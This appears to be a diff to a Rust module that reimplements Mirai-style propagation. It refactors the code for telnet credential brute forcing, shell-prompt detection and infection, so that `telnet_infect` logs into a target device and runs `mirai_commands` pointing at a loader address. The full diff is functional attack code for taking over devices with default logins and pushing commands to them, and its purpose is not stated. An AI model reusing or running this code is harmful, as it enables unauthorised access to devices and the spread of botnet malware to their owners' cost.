@@ -135,7 +135,7 @@ pub fn mirai_commands(loader: Ipv4Addr) -> Vec<String> {
 /// Reads from `s` until the text read ends in one of `marks` (then returns it) or `limit`
 /// passes or `stop` is raised (then returns what was read).
 fn read_until(
-    s: &mut TcpStream,
+    s: &mut impl Read,
     marks: &[&str],
     limit: Duration,
     stop: &AtomicBool,
@@ -180,22 +180,57 @@ fn telnet_login(
     credential: &(String, String),
     stop: &AtomicBool,
 ) -> std::io::Result<(TcpStream, LoginOutcome)> {
+    let mut s = TcpStream::connect_timeout(&target, Duration::from_secs(3))?;
+    let outcome = login_on(&mut s, credential, stop)?;
+    Ok((s, outcome))
+}
+
+/// Tries `credential` on the telnet connection `s` (fresh, at its login prompt): waits for the
+/// prompt, sends the login, waits for the password prompt, sends the password and reads the
+/// answer. Sets a short read timeout and no delay on `s`.
+///
+/// # Errors
+/// Socket errors.
+pub fn login_on(
+    s: &mut TcpStream,
+    credential: &(String, String),
+    stop: &AtomicBool,
+) -> std::io::Result<LoginOutcome> {
     let wait = Duration::from_secs(3);
-    let mut s = TcpStream::connect_timeout(&target, wait)?;
     s.set_read_timeout(Some(Duration::from_millis(100)))?;
     s.set_nodelay(true)?;
-    read_until(&mut s, &["login: "], wait, stop)?;
+    read_until(s, &["login: "], wait, stop)?;
     s.write_all(format!("{}\r\n", credential.0).as_bytes())?;
-    read_until(&mut s, &["Password: "], wait, stop)?;
+    read_until(s, &["Password: "], wait, stop)?;
     s.write_all(format!("{}\r\n", credential.1).as_bytes())?;
     // A refusal may come only after the login's failure delay (BusyBox's is 3 s).
-    let answer = read_until(&mut s, &["# ", "incorrect\r\n"], 4 * wait, stop)?;
-    let outcome = if answer.trim_end().ends_with('#') {
+    let answer = read_until(s, &["# ", "incorrect\r\n"], 4 * wait, stop)?;
+    Ok(if answer.trim_end().ends_with('#') {
         LoginOutcome::Shell
     } else {
         LoginOutcome::Refused
-    };
-    Ok((s, outcome))
+    })
+}
+
+/// Runs `commands` in a logged-in telnet session `s`, each after the shell's prompt, then
+/// `exit`.
+///
+/// # Errors
+/// Socket errors.
+pub fn run_commands(
+    s: &mut TcpStream,
+    commands: &[String],
+    stop: &AtomicBool,
+) -> std::io::Result<()> {
+    let wait = Duration::from_secs(3);
+    for c in commands {
+        if stop.load(Ordering::Relaxed) {
+            break;
+        }
+        s.write_all(format!("{c}\r\n").as_bytes())?;
+        read_until(s, &["# "], wait, stop)?;
+    }
+    s.write_all(b"exit\r\n")
 }
 
 /// Mirai's scanner brute force against `target`'s telnet: each pair of `credentials` on a
@@ -242,20 +277,11 @@ pub fn telnet_infect(
     loader: Ipv4Addr,
     stop: &AtomicBool,
 ) -> std::io::Result<()> {
-    let wait = Duration::from_secs(3);
     let (mut s, outcome) = telnet_login(target, credential, stop)?;
     if outcome == LoginOutcome::Refused {
         return Err(std::io::Error::other("telnet login refused"));
     }
-    for c in mirai_commands(loader) {
-        if stop.load(Ordering::Relaxed) {
-            break;
-        }
-        s.write_all(format!("{c}\r\n").as_bytes())?;
-        read_until(&mut s, &["# "], wait, stop)?;
-    }
-    s.write_all(b"exit\r\n")?;
-    Ok(())
+    run_commands(&mut s, &mirai_commands(loader), stop)
 }
 
 #[cfg(test)]
